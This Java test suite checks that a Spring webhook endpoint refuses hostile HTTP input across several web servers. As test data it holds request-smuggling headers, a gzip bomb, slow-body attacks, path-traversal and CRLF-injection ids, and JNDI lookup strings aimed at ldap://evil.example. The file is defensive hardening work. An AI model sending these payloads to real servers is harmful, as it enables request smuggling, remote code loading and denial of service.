/*
 * Copyright 2026 the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package com.handinger.spring.webhook;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.ScheduledFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.function.IntFunction;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.zip.GZIPOutputStream;

import ch.qos.logback.classic.Level;
import com.handinger.spring.support.TasksServer;
import com.handinger.spring.task.TaskStatus;
import com.handinger.spring.webhook.AttackedApplication.Traces;
import com.handinger.spring.webhook.RawClient.Answer;
import io.micrometer.core.instrument.MeterRegistry;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What others than Handinger may send, on every web server. Whatever it is, nothing of it
 * is logged, and the next delivery is taken.
 */
@Tag("slow")
class WebhookAttacksTests {

	private static final Duration PATIENCE = Duration.ofMinutes(2);

	private static final Duration TIMEOUT = Duration.ofSeconds(2);

	private static final Duration SILENCE = Duration.ofMillis(400);

	private static final long TEN_MEGABYTES = 10 * 1024 * 1024;

	private static final String POST = "POST /handinger/webhook HTTP/1.1";

	private static final String TOKEN = "X-Handinger-Token: " + WebhookApplication.TOKEN;

	private static final String HEAD = POST + "\r\nHost: localhost\r\n" + TOKEN + "\r\n";

	private static final Pattern STATUS_LINE = Pattern.compile("HTTP/1\\.[01] (?!100)\\d{3}");

	private static final Map<WebStack, WebhookApplication> APPLICATIONS = new EnumMap<>(WebStack.class);

	private static final AtomicInteger NUMBERS = new AtomicInteger();

	private static TasksServer handinger;

	private final CapturedLog log = CapturedLog.startWithTrace();

	@BeforeAll
	static void start() {
		handinger = TasksServer.start();
		for (WebStack stack : WebStack.values()) {
			APPLICATIONS.put(stack, WebhookApplication.start(stack, handinger, AttackedApplication.class,
					AttackedApplication.WITHOUT_METRICS, "handinger.webhook.timeout=" + TIMEOUT.toSeconds() + "s"));
		}
		// The first delivery can take longer than the timeout on a busy machine.
		APPLICATIONS.values()
			.forEach((application) -> Awaitility.await()
				.atMost(PATIENCE)
				.until(() -> application.deliverTask(finishedTask("first")).status() == 204));
	}

	@AfterAll
	static void stop() {
		APPLICATIONS.values().forEach(WebhookApplication::close);
		APPLICATIONS.clear();
		handinger.close();
	}

	@AfterEach
	void nextDeliveryIsTakenAndNothingIsLogged() {
		try {
			APPLICATIONS
				.forEach((stack, application) -> assertThat(application.deliverTask(finishedTask("next")).status())
					.as(stack.name())
					.isEqualTo(204));
			assertThat(this.log.troubles()).isEmpty();
			assertThat(this.log.lines(Level.TRACE))
				.noneMatch((line) -> line.contains(WebhookApplication.TOKEN) || line.contains("marker"));
		}
		finally {
			this.log.close();
		}
	}

	private static String finishedTask(String name) {
		String taskId = "tsk_" + name + "_" + NUMBERS.incrementAndGet();
		handinger.withTask(taskId, 1);
		return taskId;
	}

	private static String body(String taskId) {
		return "{\"taskId\":\"" + taskId + "\"}";
	}

	/**
	 * Do something on all stacks at once, since it takes its time.
	 */
	private static void onEach(Consumer<WebStack> test) throws Exception {
		WebStack[] stacks = WebStack.values();
		inParallel(stacks.length, stacks.length, (i) -> {
			test.accept(stacks[i]);
			return stacks[i];
		});
	}

	private static <T> List<T> inParallel(int threads, int count, IntFunction<T> work) throws Exception {
		ExecutorService executor = Executors.newFixedThreadPool(threads);
		try {
			List<Future<T>> futures = IntStream.range(0, count)
				.mapToObj((i) -> executor.submit(() -> work.apply(i)))
				.toList();
			List<T> results = new ArrayList<>();
			for (Future<T> future : futures) {
				results.add(future.get(2, TimeUnit.MINUTES));
			}
			return results;
		}
		finally {
			executor.shutdownNow();
		}
	}

	@ParameterizedTest
	@EnumSource
	void foldedTokenIsNone(WebStack stack) {
		String taskId = finishedTask("folded");
		Answer answer = APPLICATIONS.get(stack)
			.send(POST, "X-Handinger-Token: wrong\r\n " + WebhookApplication.TOKEN, body(taskId));
		assertThat(answer.status()).isIn(400, 401);
		assertThat(APPLICATIONS.get(stack).listener().events(taskId)).isEmpty();
	}

	@ParameterizedTest
	@EnumSource
	void spaceBeforeTheColonIsABadRequest(WebStack stack) {
		Answer answer = APPLICATIONS.get(stack)
			.send(POST, "X-Handinger-Token : " + WebhookApplication.TOKEN, body(finishedTask("space")));
		assertThat(answer.status()).isEqualTo(400);
	}

	@ParameterizedTest
	@EnumSource
	void hugeHeadIsRefusedByTheServer(WebStack stack) {
		String many = String.join("\r\n", IntStream.range(0, 1000).mapToObj((i) -> "X-Header-" + i + ": x").toList());
		for (String headers : List.of("X-Handinger-Token: " + "x".repeat(100_000), TOKEN + "\r\n" + many)) {
			try (RawClient client = new RawClient(APPLICATIONS.get(stack).port())) {
				client.tryWrite(WebhookApplication.request(POST, headers, "{}").getBytes(StandardCharsets.UTF_8));
				// What is unread when the server closes can take the answer with it.
				assertThat(client.readAll(PATIENCE)).matches("(?s)|HTTP/1.1 4(00|31).*");
			}
		}
	}

	@ParameterizedTest
	@EnumSource
	void oneRequestIsNeverTwo(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String hidden = finishedTask("hidden");
		String second = WebhookApplication.request(POST, TOKEN, body(hidden));
		String first = body(finishedTask("first"));
		String chunk = Integer.toHexString(first.length()) + "\r\n" + first + "\r\n0\r\n\r\n";
		for (String request : List.of(HEAD + "Content-Length: " + (chunk + second).length()
				+ "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk + second,
				HEAD + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + chunk + second,
				HEAD + "Content-Length: " + first.length() + "\r\nContent-Length: " + (first + second).length()
						+ "\r\n\r\n" + first + second,
				HEAD + "Content-Length: " + first.length() + ", " + (first + second).length() + "\r\n\r\n" + first
						+ second,
				HEAD + "Transfer-Encoding: xchunked\r\nContent-Length: " + (chunk + second).length() + "\r\n\r\n"
						+ chunk + second,
				HEAD + "Transfer-Encoding: xchunked\r\n\r\n" + chunk + second,
				HEAD + "Transfer-Encoding: xchunked\r\n\r\n" + second,
				HEAD + "Transfer-Encoding: chunked, identity\r\n\r\n" + chunk + second,
				HEAD + "Transfer-Encoding : chunked\r\nContent-Length: " + (chunk + second).length() + "\r\n\r\n"
						+ chunk + second,
				HEAD + "X-Bare: x\nTransfer-Encoding: chunked\nContent-Length: " + (chunk + second).length()
						+ "\r\n\r\n" + chunk + second,
				HEAD + "Content-Length: +" + first.length() + "\r\n\r\n" + first + second,
				HEAD + "Content-Length: -1\r\n\r\n" + first + second,
				HEAD + "Transfer-Encoding: chunked\r\n\r\n" + "ffffffffffffffff1\r\n" + first + "\r\n0\r\n\r\n"
						+ second,
				HEAD + "Transfer-Encoding: chunked\r\n\r\n" + "-1\r\n" + first + "\r\n0\r\n\r\n" + second)) {
			try (RawClient client = new RawClient(application.port())) {
				client.write(request);
				String answers = client.readAll(SILENCE);
				assertThat(STATUS_LINE.matcher(answers).results().count()).as(request + "\n---\n" + answers)
					.isLessThanOrEqualTo(1);
				assertThat(application.listener().events(hidden)).as(request).isEmpty();
			}
		}
	}

	@ParameterizedTest
	@EnumSource
	void chunkExtensionHidesNothing(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String taskId = finishedTask("extension");
		String hidden = finishedTask("hidden");
		String body = body(taskId);
		try (RawClient client = new RawClient(application.port())) {
			client.write(HEAD + "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(body.length())
					+ ";name=value\r\n" + body + "\r\n0\r\n\r\n");
			assertThat(client.read().status()).isIn(204, 400);
		}
		String second = WebhookApplication.request(POST, TOKEN, body(hidden));
		try (RawClient client = new RawClient(application.port())) {
			client.write(HEAD + "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n" + Integer.toHexString(second.length())
					+ "\r\n0\r\n\r\n" + second + "\r\n0\r\n\r\n");
			client.readAll(SILENCE);
		}
		assertThat(application.listener().events(hidden)).isEmpty();
	}

	@ParameterizedTest
	@EnumSource
	void requestAfterARefusedOneIsNotRead(WebStack stack) {
		String taskId = finishedTask("pipelined");
		try (RawClient client = new RawClient(APPLICATIONS.get(stack).port())) {
			client.write(WebhookApplication.request(POST, "X-Handinger-Token: wrong", "{}")
					+ WebhookApplication.request(POST, TOKEN, body(taskId)));
			assertThat(STATUS_LINE.matcher(client.readAll(PATIENCE)).results().count()).isEqualTo(1);
		}
		assertThat(APPLICATIONS.get(stack).listener().events(taskId)).isEmpty();
	}

	@ParameterizedTest
	@EnumSource
	void deliveriesCanBePipelined(WebStack stack) {
		String first = finishedTask("pipelined");
		String second = finishedTask("pipelined");
		try (RawClient client = new RawClient(APPLICATIONS.get(stack).port())) {
			client.write(WebhookApplication.request(POST, TOKEN, body(first))
					+ WebhookApplication.request(POST, TOKEN, body(second)));
			assertThat(client.read().status()).isEqualTo(204);
			assertThat(client.read().status()).isEqualTo(204);
		}
		assertThat(APPLICATIONS.get(stack).listener().events(first)).hasSize(1);
		assertThat(APPLICATIONS.get(stack).listener().events(second)).hasSize(1);
	}

	@ParameterizedTest
	@EnumSource
	void hundredMegabytesLeaveNothingOnTheHeap(WebStack stack) {
		long before = usedHeap();
		for (String token : List.of("X-Any: x", TOKEN)) {
			byte[] chunk = ("10000\r\n" + " ".repeat(0x10000) + "\r\n").getBytes(StandardCharsets.US_ASCII);
			try (RawClient client = new RawClient(APPLICATIONS.get(stack).port())) {
				client.write(POST + "\r\nHost: localhost\r\n" + token + "\r\nTransfer-Encoding: chunked\r\n\r\n");
				long taken = IntStream.range(0, 1600).takeWhile((i) -> client.tryWrite(chunk)).count();
				assertThat(taken).as("chunks of 64 KiB that were taken").isLessThan(200);
			}
		}
		assertThat(usedHeap() - before).isLessThan(TEN_MEGABYTES);
	}

	private static long usedHeap() {
		System.gc();
		return ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
	}

	@Test
	void slowBodyIsGivenUpAndHarmsNoOther() throws Exception {
		ScheduledExecutorService trickle = Executors.newScheduledThreadPool(3);
		try {
			onEach((stack) -> {
				WebhookApplication application = APPLICATIONS.get(stack);
				try (RawClient client = new RawClient(application.port())) {
					long start = System.nanoTime();
					client.write(HEAD + "Content-Length: 1000\r\n\r\n");
					ScheduledFuture<?> bytes = trickle.scheduleAtFixedRate(() -> client.tryWrite(new byte[] { ' ' }), 0,
							200, TimeUnit.MILLISECONDS);
					assertThat(application.deliverTask(finishedTask("other")).status()).isEqualTo(204);
					assertThat(client.read().status()).as(stack.name()).isEqualTo(408);
					bytes.cancel(true);
					assertThat(client.isClosedWithin(PATIENCE)).as(stack.name()).isTrue();
					assertThat(Duration.ofNanos(System.nanoTime() - start)).as(stack.name())
						.isGreaterThanOrEqualTo(TIMEOUT);
				}
			});
		}
		finally {
			trickle.shutdownNow();
		}
	}

	@ParameterizedTest
	@EnumSource
	void bodyThatNeverComesDoesNotKeepARefusedConnectionOpen(WebStack stack) {
		for (String headers : List.of("Content-Length: 1000", "Transfer-Encoding: chunked",
				"Content-Length: 1000\r\nX-Handinger-Token: wrong",
				"Content-Length: 1000\r\nContent-Encoding: br\r\n" + TOKEN, "Content-Length: 10000000\r\n" + TOKEN)) {
			try (RawClient client = new RawClient(APPLICATIONS.get(stack).port())) {
				client.write(POST + "\r\nHost: localhost\r\n" + headers + "\r\n\r\n");
				assertThat(client.read().status()).as(headers).isIn(401, 413, 415);
				assertThat(client.isClosedWithin(PATIENCE)).as(headers).isTrue();
			}
		}
	}

	@ParameterizedTest
	@EnumSource
	void senderThatHangsUpWithinTheBodyIsForgotten(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		int before = counts(application).get("invalid");
		for (String start : List.of("Content-Length: 1000\r\n\r\n{", "Transfer-Encoding: chunked\r\n\r\n5\r\n{")) {
			try (RawClient client = new RawClient(application.port())) {
				client.write(HEAD + start);
			}
		}
		Awaitility.await().atMost(PATIENCE).until(() -> counts(application).get("invalid") == before + 2);
	}

	@ParameterizedTest
	@EnumSource
	void compressedBodyIsNotUnpacked(WebStack stack) throws IOException {
		ByteArrayOutputStream bomb = new ByteArrayOutputStream();
		try (GZIPOutputStream gzip = new GZIPOutputStream(bomb)) {
			gzip.write(new byte[1_000_000]);
		}
		for (String encodings : List.of("gzip", "GZIP", "identity, gzip", "identity\r\nContent-Encoding: gzip",
				"deflate")) {
			Answer answer = APPLICATIONS.get(stack)
				.send(POST, TOKEN + "\r\nContent-Encoding: " + encodings, bomb.toByteArray());
			assertThat(answer.status()).as(encodings).isEqualTo(415);
		}
	}

	@ParameterizedTest
	@EnumSource
	void bodyIsNotAskedForWithoutAToken(WebStack stack) {
		String expectation = "Content-Length: 1000\r\nExpect: 100-continue\r\n\r\n";
		try (RawClient client = new RawClient(APPLICATIONS.get(stack).port())) {
			client.write(POST + "\r\nHost: localhost\r\n" + expectation);
			Answer answer = client.read();
			// Tomcat itself asks for it, before any filter is called.
			if (stack == WebStack.TOMCAT && answer.status() == 100) {
				answer = client.read();
			}
			assertThat(answer.status()).isEqualTo(401);
			assertThat(client.isClosedWithin(PATIENCE)).isTrue();
		}
		String body = body(finishedTask("continue"));
		try (RawClient client = new RawClient(APPLICATIONS.get(stack).port())) {
			client.write(HEAD + "Expect: 100-continue\r\nContent-Length: " + body.length() + "\r\n\r\n");
			assertThat(client.read().status()).isEqualTo(100);
			client.write(body);
			assertThat(client.read().status()).isEqualTo(204);
		}
	}

	@ParameterizedTest
	@EnumSource
	void hugeNumbersAndNamesAreNotWorkedOut(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String taskId = finishedTask("huge");
		for (String number : List.of("1e999999999", "-1e-999999999", "1E+99999")) {
			assertThat(application.deliver("{\"n\":" + number + ",\"taskId\":\"" + taskId + "\"}").status()).as(number)
				.isIn(204, 400);
			assertThat(application.deliver("{\"taskId\":" + number + "}").status()).as(number).isEqualTo(400);
		}
		for (String body : List.of("{\"n\":" + "1".repeat(1_000_000) + ",\"taskId\":\"" + taskId + "\"}",
				"{\"n\":1." + "1".repeat(1_000_000) + ",\"taskId\":\"" + taskId + "\"}",
				"{\"" + "n".repeat(1_000_000) + "\":1,\"taskId\":\"" + taskId + "\"}",
				"{\"taskId\":\"" + "x".repeat(1_000_000) + "\"}")) {
			assertThat(application.deliver(body).status()).as(body.substring(0, 20)).isEqualTo(400);
		}
	}

	@ParameterizedTest
	@EnumSource
	void otherEncodingsAreReadOrRefused(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String taskId = finishedTask("encoding");
		byte[] plain = body(taskId).getBytes(StandardCharsets.UTF_8);
		byte[] withMark = ("\uFEFF" + body(taskId)).getBytes(StandardCharsets.UTF_8);
		byte[] invalid = Arrays.copyOf(plain, plain.length);
		invalid[plain.length - 3] = (byte) 0xC3;
		byte[] withNul = Arrays.copyOf(plain, plain.length);
		withNul[plain.length - 3] = 0;
		assertThat(application.send(POST, TOKEN, plain).status()).isEqualTo(204);
		assertThat(application.send(POST, TOKEN, withMark).status()).isEqualTo(204);
		for (String charset : List.of("UTF-16LE", "UTF-16BE", "UTF-16", "UTF-32LE")) {
			assertThat(application.send(POST, TOKEN, body(taskId).getBytes(Charset.forName(charset))).status())
				.as(charset)
				.isIn(204, 400);
		}
		assertThat(application.send(POST, TOKEN, invalid).status()).isEqualTo(400);
		assertThat(application.send(POST, TOKEN, withNul).status()).isEqualTo(400);
		for (String escape : List.of("\\ud800", "\\u0000", "\\r\\n", "\\u202e", "\\ufeff", "\\uff41", "\\n")) {
			assertThat(application.deliver("{\"taskId\":\"" + taskId + escape + "\"}").status()).as(escape)
				.isEqualTo(400);
			assertThat(application.deliver("{\"other\":\"" + escape + "\",\"taskId\":\"" + taskId + "\"}").status())
				.as(escape)
				.isEqualTo(204);
		}
		assertThat(application.listener().events(taskId)).hasSize(1);
	}

	@ParameterizedTest
	@EnumSource
	void oneOfTwoIdsIsTaken(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String first = finishedTask("one");
		String second = finishedTask("other");
		int before = handinger.lookUps();
		assertThat(application.deliver("{\"taskId\":\"" + first + "\",\"taskId\":\"" + second + "\"}").status())
			.isIn(204, 400);
		assertThat(application.listener().events(first).size() + application.listener().events(second).size())
			.isLessThanOrEqualTo(1);
		assertThat(handinger.lookUps() - before).isLessThanOrEqualTo(1);
	}

	@ParameterizedTest
	@EnumSource
	void idThatIsNoneReachesNoServer(WebStack stack) {
		int before = handinger.lookUps();
		for (String id : List.of("../workers/marker", "%2e%2e%2fworkers", "a/b", "a%2Fb", "a?x=1", "a#b",
				"a\\r\\nX-Evil: marker", "a b", "a\\tb", "http://evil.example/", "//evil.example", "@evil.example",
				"{taskId}", "${jndi:ldap://evil.example/a}", "..", ".", "", " ", "tsk_1;a=b", "tsk_\u00e4",
				"\\ud835\\udfd8")) {
			for (String body : List.of("{\"taskId\":\"%s\"}", "{\"task\":{\"id\":\"%s\"}}",
					"{\"data\":{\"task_id\":\"%s\"}}")) {
				assertThat(application(stack, body.replace("%s", id)).status()).as(id).isEqualTo(400);
			}
		}
		assertThat(handinger.lookUps()).isEqualTo(before);
	}

	private static Answer application(WebStack stack, String body) {
		return APPLICATIONS.get(stack).send(POST, TOKEN, body.getBytes(StandardCharsets.UTF_8));
	}

	@ParameterizedTest
	@EnumSource
	void eachUnknownTaskIsLookedUpOnce(WebStack stack) throws Exception {
		int before = handinger.lookUps();
		int events = APPLICATIONS.get(stack).listener().events().size();
		List<Integer> statuses = inParallel(100, 1000,
				(i) -> APPLICATIONS.get(stack).deliverTask("tsk_unknown_" + stack + "_" + i).status());
		assertThat(statuses).containsAnyOf(404).allMatch((status) -> status == 404 || status == 503);
		assertThat(handinger.lookUps() - before).isLessThanOrEqualTo(1000);
		assertThat(APPLICATIONS.get(stack).listener().events()).hasSize(events);
	}

	@ParameterizedTest
	@EnumSource
	void whatIsDeliveredSaysNothingOfTheEnd(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String ended = finishedTask("ended");
		assertThat(application
			.deliver("{\"taskId\":\"" + ended + "\",\"workerId\":\"wrk_evil\",\"status\":\"failed\",\"turnCount\":9}")
			.status()).isEqualTo(204);
		TaskFinishedEvent event = application.listener().events(ended).get(0);
		assertThat(event.status()).isEqualTo(TaskStatus.COMPLETED);
		assertThat(event.workerId()).isEqualTo("wrk_1");
		assertThat(event.turnCount()).isEqualTo(1);
		assertThat(event.body()).containsEntry("status", "failed");
	}

	@Test
	void taskThatIsSaidToBeAtItsEndIsNot() throws Exception {
		onEach((stack) -> {
			String running = "tsk_forged_" + stack;
			handinger.withRunningTask(running, Duration.ofMinutes(10));
			assertThat(APPLICATIONS.get(stack).deliverTask(running).status()).isEqualTo(503);
			assertThat(APPLICATIONS.get(stack).listener().events(running)).isEmpty();
		});
	}

	@ParameterizedTest
	@EnumSource
	void nothingThatIsDeliveredIsLogged(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String taskId = finishedTask("log");
		String text = "marker\\r\\nERROR marker \\u001b[31m ${jndi:ldap://marker/a}" + "marker".repeat(10_000);
		assertThat(application
			.deliver("{\"taskId\":\"" + taskId + "\",\"title\":\"" + text + "\",\"error\":\"" + text + "\"}")
			.status()).isEqualTo(204);
		assertThat(application.deliver("{\"taskId\":\"" + text + "\"}").status()).isEqualTo(400);
		assertThat(application.deliver("{\"title\":\"" + text + "\",").status()).isEqualTo(400);
		assertThat(application.send(POST, "X-Handinger-Token: marker", "{}").status()).isEqualTo(401);
		assertThat(application.send(POST, TOKEN + "\r\nContent-Encoding: marker", "{}").status()).isEqualTo(415);
		assertThat(this.log.lines(Level.WARN)).filteredOn((line) -> line.contains("SHA-256")).hasSize(2);
	}

	@ParameterizedTest
	@EnumSource
	void furtherSpellingsOfThePathAreNotTheWebhook(WebStack stack) {
		for (String path : List.of("/handinger/webhook%00", "/handinger/%2e/webhook", "/handinger/webhook%20",
				"/handinger//webhook", "/handinger/webhook/..", "/handinger;x/webhook", "/;x/handinger/webhook",
				"/handinger\\webhook", "/handinger/webhook%3Fa", "/handinger/x/%2e%2e/webhook")) {
			Answer answer = APPLICATIONS.get(stack).send("POST " + path + " HTTP/1.1", TOKEN, body("tsk_1"));
			assertThat(answer.status()).as(path).isIn(400, 404);
		}
		assertThat(APPLICATIONS.get(stack)
			.send("POST /handinger/webhook?token=" + WebhookApplication.TOKEN + " HTTP/1.1", "", "{}")
			.status()).isEqualTo(401);
	}

	@ParameterizedTest
	@EnumSource
	void otherVersionsAndFormsHaveNoOtherMeaning(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		String body = body(finishedTask("version"));
		assertThat(application.send("POST /handinger/webhook HTTP/1.0", TOKEN, body).status()).isEqualTo(204);
		assertThat(application.send("POST http://localhost/handinger/webhook HTTP/1.1", TOKEN, body).status()).isIn(204,
				400, 404);
		assertThat(application.send("POST http://localhost/handinger/webhook HTTP/1.1", "", body).status()).isIn(400,
				401, 404);
		String override = "X-HTTP-Method-Override: POST\r\nX-HTTP-Method: POST\r\n" + TOKEN;
		assertThat(application.send("PUT /handinger/webhook HTTP/1.1", override, body).status()).isEqualTo(405);
		assertThat(application.send(POST, "X-HTTP-Method-Override: GET\r\n" + TOKEN, body).status()).isEqualTo(204);
		try (RawClient client = new RawClient(application.port())) {
			client.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
			assertThat(client.readAll(SILENCE)).doesNotContain(" 200 ", " 204 ", " 500 ");
		}
	}

	@ParameterizedTest
	@EnumSource
	void traceIsContinuedOnlyWithTheToken(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		List<Map<String, String>> carriers = application.context().getBean(Traces.class).carriers();
		carriers.clear();
		String trace = "\r\ntraceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\nbaggage: k="
				+ "x".repeat(4000);
		String body = body(finishedTask("trace"));
		assertThat(application.send(POST, "X-Handinger-Token: wrong" + trace, body).status()).isEqualTo(401);
		assertThat(application.send(POST, TOKEN + trace, "{}").status()).isEqualTo(400);
		assertThat(carriers).isEmpty();
		assertThat(application.send(POST, TOKEN + trace, body).status()).isEqualTo(204);
		assertThat(carriers).singleElement()
			.satisfies((carrier) -> assertThat(carrier).containsOnlyKeys("traceparent")
				.containsEntry("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"));
	}

	@Test
	void listenerThatBlocksForEverKeepsNoOtherWaiting() throws Exception {
		CountDownLatch release = new CountDownLatch(1);
		try {
			onEach((stack) -> {
				WebhookApplication application = APPLICATIONS.get(stack);
				String taskId = finishedTask("blocked");
				CountDownLatch blocked = new CountDownLatch(1);
				application.listener().onTask(taskId, (event) -> {
					blocked.countDown();
					WebhookApplication.await(release);
				});
				try (RawClient client = new RawClient(application.port())) {
					client.write(WebhookApplication.request(POST, TOKEN, body(taskId)));
					WebhookApplication.await(blocked);
					IntStream.range(0, 20)
						.forEach((i) -> assertThat(application.deliverTask(finishedTask("other")).status())
							.isEqualTo(204));
					Answer answer = client.read();
					assertThat(answer.status()).isEqualTo(503);
					assertThat(answer.header("Retry-After")).isPresent();
				}
			});
		}
		finally {
			release.countDown();
		}
	}

	@ParameterizedTest
	@EnumSource
	void requestsAreCountedByWhatHasBecomeOfThem(WebStack stack) {
		WebhookApplication application = APPLICATIONS.get(stack);
		Map<String, Integer> before = counts(application);
		String taskId = finishedTask("counted");
		application.deliverTask(taskId);
		application.deliverTask(taskId);
		application.send(POST, "", "{}");
		application.deliver("{}");
		application.deliverTask("tsk_unknown");
		assertThat(RawClient.send(application.port(), HEAD + "Content-Length: 2000000\r\n\r\n").status())
			.isEqualTo(413);
		assertThat(counts(application)).isEqualTo(Map.of("accepted", before.get("accepted") + 1, "duplicate",
				before.get("duplicate") + 1, "unauthorized", before.get("unauthorized") + 1, "invalid",
				before.get("invalid") + 2, "too-large", before.get("too-large") + 1, "failed", before.get("failed")));
		MeterRegistry registry = application.context().getBean(MeterRegistry.class);
		assertThat(registry.get("handinger.webhook.handling").tag("outcome", "accepted").timer().count()).isPositive();
		Awaitility.await()
			.atMost(PATIENCE)
			.untilAsserted(() -> assertThat(registry.get("http.server.requests").timers())
				.filteredOn((timer) -> "/handinger/webhook".equals(timer.getId().getTag("uri")))
				.extracting((timer) -> timer.getId().getTag("status"))
				.contains("204", "401", "400", "404", "413"));
	}

	private static Map<String, Integer> counts(WebhookApplication application) {
		Map<String, Integer> counts = new HashMap<>();
		for (String outcome : List.of("accepted", "duplicate", "unauthorized", "invalid", "too-large", "failed")) {
			counts.put(outcome,
					(int) application.context()
						.getBean(MeterRegistry.class)
						.find("handinger.webhook.deliveries")
						.tag("outcome", outcome)
						.counters()
						.stream()
						.mapToDouble((counter) -> counter.count())
						.sum());
		}
		return counts;
	}

}
